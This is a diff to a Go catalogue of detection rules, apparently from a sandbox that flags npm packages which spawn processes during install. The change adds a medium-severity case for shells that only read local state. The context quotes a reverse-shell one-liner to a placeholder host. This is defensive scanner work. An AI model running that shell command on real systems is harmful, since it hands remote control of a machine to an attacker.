@@ -158,7 +158,10 @@ var catalogue = []Rule{
 			"shells do: `bash -i >& /dev/tcp/host/port 0>&1`), and neither is `node -e` whose code only loads one of the package's own " +
 			"files (`try{require('./postinstall')}catch(e){}`): that is the package's install script, written inline. " +
 			"What the script starts is counted. An attempt to run such a program that does not exist counts the same " +
-			"(the sandbox runs a stand-in that fails like a missing command, so the attempt is seen).",
+			"(the sandbox runs a stand-in that fails like a missing command, so the attempt is seen). Medium when every " +
+			"such process is a shell whose command line only runs programs that look up local state (cat, head, tail, " +
+			"hostname, ps, uname, echo, grep, cut, …) with no expansion, quoting or redirection but to /dev/null: " +
+			"node-machine-id reading /etc/machine-id, pstree.remy running ps.",
 		Rationale: "Droppers fetch and run second stages this way; libraries have little reason to shell out inside a " +
 			"Lambda function, where most of these programs do not even exist.",
 		Remediation: "Read the command line in the evidence. If the package legitimately shells out (an image converter " +
